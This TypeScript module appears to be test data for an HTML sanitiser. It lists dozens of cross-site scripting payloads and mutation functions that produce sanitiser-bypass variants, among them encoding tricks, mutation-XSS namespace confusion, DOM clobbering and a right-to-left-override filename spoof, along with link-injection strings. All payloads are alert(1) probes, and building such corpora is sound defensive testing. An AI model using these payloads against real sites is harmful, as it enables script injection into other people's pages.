/** Runs by itself, or when it is clicked or hovered. */
const bases = [
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror=alert(1) onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><image href=x onerror=alert(1)></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><set onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text x=20 y=20>x</text></a></svg>',
  '<script>alert(1)</script>',
  '<script src="data:text/javascript,alert(1)"></script>',
  '<script type=module>alert(1)</script>',
  '<body onload=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<select autofocus onfocus=alert(1)></select>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<p tabindex=1 autofocus onfocus=alert(1)>x</p>',
  '<xss tabindex=1 autofocus onfocus=alert(1)>x</xss>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
  '<iframe onload=alert(1)></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object data="x" onerror=alert(1)></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<style onload=alert(1)>b{}</style>',
  '<link rel=stylesheet href="data:text/css,b{}" onload=alert(1)>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input type=image src=x onerror=alert(1)>',
  '<style>@keyframes k{}</style><p style="animation-name:k;animation-duration:.01s" onanimationstart=alert(1)>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href=" &#1;javascript:alert(1)">x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form><input type=submit formaction="javascript:alert(1)" value=x></form>',
  '<p onclick=alert(1)>x</p>',
  '<p onmouseover=alert(1)>x</p>',
  '<math><mi xlink:href="javascript:alert(1)" onclick=alert(1)>x</mi></math>',
  '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap=#m src=x>',
  '<div contenteditable onbeforecopy=alert(1) onclick=alert(1)>x</div>',
] as const

/** Other spellings that have confused sanitisers: each parses the base differently before and after sanitising. */
const spellings: readonly ((base: string) => string)[] = [
  (base) => base,
  (base) => base.replace(/<([a-z]+)/g, (_, name: string) => `<${name.toUpperCase()}`).replace(/\bon(\w)/g, 'oN$1'),
  (base) => base.replace(/<([a-z]+) /g, '<$1/'),
  (base) => base.replace(/<([a-z]+) /g, '<$1\n\t\f'),
  (base) =>
    base
      .replaceAll('alert(1)', '&#97;lert&lpar;1&rpar;')
      .replaceAll('<script>&#97;lert&lpar;1&rpar;', '<script>alert(1)'),
  (base) => base.replaceAll('alert(1)', 'top[/al/.source+/ert/.source]?.(1),window[`al`+`ert`](1)'),
  (base) => `<!--><x>-->${base}<!-- -->`,
  (base) => `<!--[if gte mso 9]>--><p>${base}<![endif]-->`,
  (base) => `<noscript><p title="</noscript>${base.replaceAll('"', '&quot;')}"></noscript>${base}`,
  (base) => `<svg></p><style><a id="</style>${base.replaceAll('"', "'")}"></style></svg>`,
  (base) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${base.replaceAll('"', '&quot;').replaceAll('<', '&lt;')}">${base}`,
  (base) => `<form><math><mtext></form><form><mglyph><style></math>${base}`,
  (base) => `<table>${base}</table>`,
  (base) => `<select></select><textarea></textarea><title></title><xmp></xmp>${base}`,
  (base) => `<p id=attributes><form id=f><input name=attributes><input name=childNodes></form>${base}`,
  (base) => `${'<b>'.repeat(200)}${base}`,
]

/** Every base in every spelling. */
export const ownAttacks: readonly string[] = spellings.flatMap((spell) => bases.map(spell))

/** Every base in one spelling, and every spelling of some base. */
export const ownSample: readonly string[] = bases.map((base, at) => spellings[at % spellings.length]?.(base) ?? base)

/** Attacks on single lines of text: a subject, a name, a file name. */
export const lineAttacks: readonly string[] = [
  ...bases,
  ...bases.map((base) => `" title='${base}'>${base}`),
  'invoice\u202Egpj.exe',
  '\u2066hidden\u2069\u200B\u0000name',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
]

/** For plain text: what a careless link detector would turn into more than a link. */
export const textAttacks: readonly string[] = [
  ...bases,
  ...bases.map((base) => `https://host.example/"${base}`),
  ...bases.map((base) => `https://host.example/?q=${base}#x`),
  'javascript:alert(1)',
  'javascript://host.example/%0aalert(1)',
  'https://host.example/" onmouseover="alert(1)',
  "https://host.example/' onclick='alert(1)",
  'mailto:a@host.example"onclick="alert(1)',
  '<javascript:alert(1)>',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'www.host.example"><img src=x onerror=alert(1)>',
]
